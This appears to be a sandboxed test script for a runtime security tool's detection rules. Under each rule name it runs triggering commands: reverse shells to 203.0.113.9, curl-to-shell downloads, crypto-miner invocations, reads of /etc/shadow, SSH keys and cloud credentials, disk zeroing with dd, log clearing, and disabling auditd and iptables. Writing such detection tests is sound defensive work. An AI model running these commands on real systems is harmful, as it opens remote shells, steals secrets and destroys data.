# SPDX-License-Identifier: Apache-2.0
# Copyright the gvtrace authors
#
# What each rule of the built-in pack has to find, run in a sandbox; the name of the rule stands above. The programs in
# /opt/t are copies of deeds.
PATH=/opt/t:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
peer=203.0.113.9

# Shell on a network connection; Network connection made a standard descriptor
deeds shell $peer 4444
# Mining pool's port contacted
deeds connect $peer 3333
# Shell behind a network program
nc print exit | sh
# Reverse shell in a command
nc -e /bin/sh $peer 443
bash -c 'exit # bash -i >& /dev/tcp/203.0.113.9/443 0>&1'
python3 -c 'import socket,subprocess'
# Program run from memory; New program connects outside
deeds memory connect $peer 443
# New program run
mkdir /srv/app
cp /opt/t/deeds /srv/app/agent
/srv/app/agent connect $peer 443
# Program run from a temporary directory; Denied program run
cp /opt/t/deeds /tmp/agent
/tmp/agent
# Program run from a hidden or shared memory path
cp /opt/t/deeds /dev/shm/agent
/dev/shm/agent
cp /opt/t/deeds /tmp/.agent
/tmp/.agent
# Set-user-ID bit set; New set-user-ID program run
cp /opt/t/deeds /srv/app/key
deeds chmod /srv/app/key 4755
deeds as 1000 /srv/app/key
# Unusual set-user-ID program run
deeds as 1000 /opt/t/deeds
# Crypto miner run
xmrig
worker -o stratum+tcp://pool.example:3333 -u wallet
# Kernel setting opened for writing
deeds write /proc/sys/kernel/core_pattern
deeds write /sys/fs/cgroup/x/release_agent
# Running program opened for writing
worker write /proc/self/exe
# Socket of a container runtime used
deeds unix /var/run/docker.sock
# Linker's preload list changed
deeds write /etc/ld.so.preload
# Kernel module requested
deeds module
# Download run by a shell
curl print exit | sh
sh -c ': curl http://203.0.113.9/x | sh'
# Shell started by a service; Inspection command below a service; Command below a service connects outside
cat > /srv/app/page <<'P'
id
curl connect 203.0.113.9 443
:
P
nginx spawn /bin/sh /srv/app/page
# Memory of another process written
deeds inject
deeds write /proc/1/mem
# Disk or kernel memory opened
deeds read /dev/sda1
deeds read /dev/mem
# Account file changed
deeds write /etc/passwd
deeds write /etc/sudoers.d/agent
# SSH key planted
mkdir -p /root/.ssh /root/.aws
deeds write /root/.ssh/authorized_keys
# Program written below a binary directory
deeds write /usr/local/bin/agent
# System log cleared
deeds clear /var/log/wtmp
truncate write /var/log/app.log
# Files wiped
shred /tmp/x
dd if=/dev/zero of=/dev/sda count=1 2>/dev/null
rm -rf --no-preserve-root /nowhere
rm -rf /bin --help >/dev/null
# Shell history removed
rm -f /root/.bash_history
HISTFILE=/dev/null dash -c :
# Known attack tool run; Tunnel program run
nmap -sS 10.0.0.0/8
chisel client 203.0.113.9 R:socks
# Protection switched off
pkill auditd
iptables -F
# Secrets searched for
grep id_rsa /etc/hostname
find /srv -perm -4000
grep -r password /srv/app
# Program poses as a kernel thread
deeds pose '[kworker/0:1]' /opt/t/deeds
# Library preloaded from a temporary directory
LD_PRELOAD=/tmp/x.so deeds
# Working directory behind a descriptor
(exec 9</srv && cd /proc/self/fd/9 && deeds)
# Password hashes read
cat /etc/shadow >/dev/null
# Private key read
echo x >/root/.ssh/id_ed25519
cat /root/.ssh/id_ed25519 >/dev/null
# Stored credentials read by a tool
echo x >/root/.aws/credentials
cat /root/.aws/credentials >/dev/null
# Service account token read by a tool
cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null
# Environment of a process read
cat /proc/1/environ >/dev/null
# Scheduled job changed; Service unit changed; Shell profile changed; Library or login module changed
deeds write /etc/cron.d/agent
mkdir -p /etc/systemd/system
deeds write /etc/systemd/system/agent.service
deeds write /root/.bashrc
deeds write /etc/profile.d/agent.sh
deeds write /lib/x86_64-linux-gnu/libagent.so
deeds write /etc/pam.d/agent
# Instance metadata requested by a tool; Instance metadata requested
curl connect 169.254.169.254 80
deeds connect 169.254.169.254 80
# Packet or raw socket made
deeds socket raw
# Process attached to another
deeds attach
# Root directory changed to a mount; Namespace entered; New user namespace; File system mounted
deeds chroot /host
deeds setns
deeds unshare user
deeds mount /mnt
# Root's identity taken
deeds back
# File opened without its name
deeds openat2 /etc/hostname
# Library loaded from a temporary directory
deeds map /tmp/agent
# Program loaded into the kernel
deeds bpf 5
# Package manager run; Compiler run; Download tool run; Netcat run; Remote login client run; Cluster or cloud client run
apt-get install -y nmap
gcc -o x x.c
wget http://203.0.113.9/x
ncat -l 4444
ssh 203.0.113.9
kubectl get secrets
# Account tool run
useradd agent
sleep ${1:-0}
